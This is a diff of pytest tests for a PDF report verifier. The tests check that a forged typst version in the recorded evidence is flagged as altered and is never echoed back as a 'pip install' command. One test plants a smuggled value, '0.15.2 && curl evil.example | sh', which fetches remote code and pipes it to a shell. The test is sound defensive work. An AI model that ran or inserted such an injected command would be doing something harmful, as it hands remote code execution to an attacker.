@@ -213,15 +213,44 @@ def test_a_page_edit_with_rewritten_generator_metadata_is_rejected(
     assert "VERIFIED" not in result.summary
 
 
-def test_another_generator_claimed_by_the_metadata_alone_cannot_be_verified(good, tmp_path):
-    # The sample evidence records only explain's version: typst's comes from the (unsigned)
-    # metadata. Claiming another typst can never pass: it is an explicit "cannot verify", exit 2.
+def test_a_generator_naming_another_typst_than_the_evidence_is_altered(good, tmp_path):
+    # The evidence (hashed) records typst's version: a generator claiming another one is a changed
+    # file (exit 1), not "another renderer" (exit 2), and the attacker's text is never offered as a
+    # command to run.
     path = _copy(good, tmp_path)
     _set_keywords(path, lambda w: w.replace("+typst-", "+typst-9.") if w.startswith("generator:") else w)
     result = verify_report(path)
-    assert result.verdict == "cannot_verify" and result.exit_code == 2
-    assert _status(result)["renderer"] is None and "pip install typst==9." in _detail(result, "renderer")
+    assert result.verdict == "altered" and result.exit_code == 1, result.checks
+    assert _status(result)["renderer"] is False and "the generator was changed" in _detail(result, "renderer")
+    assert "pip install" not in _detail(result, "renderer")
+
+
+def test_evidence_without_the_renderer_versions_is_not_rendered_and_not_verified(evidence, tmp_path, monkeypatch):
+    # Evidence that does not record typst could only be checked with a version read from the
+    # unsigned metadata: the exporter refuses to write such a PDF, and verify cannot verify one.
+    unpinned = json.loads(canonical_json(evidence))
+    del unpinned["provenance"]["versions"]["typst"]
+    with pytest.raises(ExplainError, match="does not record which version of typst"):
+        _pdf.render_pdf(unpinned, tmp_path / "refused.pdf", timestamp=TIMESTAMP)
+    assert not (tmp_path / "refused.pdf").exists()
+    monkeypatch.setattr(_pdf, "check_recorded", lambda *a, **k: None)
+    _pdf.render_pdf(unpinned, tmp_path / "unpinned.pdf", timestamp=TIMESTAMP)
+    result = verify_report(tmp_path / "unpinned.pdf")
+    assert result.verdict == "cannot_verify" and result.exit_code == 2, result.checks
+    assert _status(result)["renderer"] is None and "does not record which version of typst" in _detail(
+        result, "renderer"
+    )
     assert _status(result)["rerender"] is None
+
+
+def test_evidence_recording_a_non_version_is_altered_and_never_echoed_as_a_command(evidence, tmp_path, monkeypatch):
+    forged = json.loads(canonical_json(evidence))
+    forged["provenance"]["versions"]["typst"] = "0.15.2 && curl evil.example | sh"
+    monkeypatch.setattr(_pdf, "check_recorded", lambda *a, **k: None)
+    _pdf.render_pdf(forged, tmp_path / "forged.pdf", timestamp=TIMESTAMP)
+    result = verify_report(tmp_path / "forged.pdf")
+    assert result.verdict == "altered" and "not a version" in _detail(result, "renderer")
+    assert "pip install" not in result.summary + _detail(result, "renderer")
 
 
 def test_another_installed_version_is_cannot_verify_not_altered(good, monkeypatch):
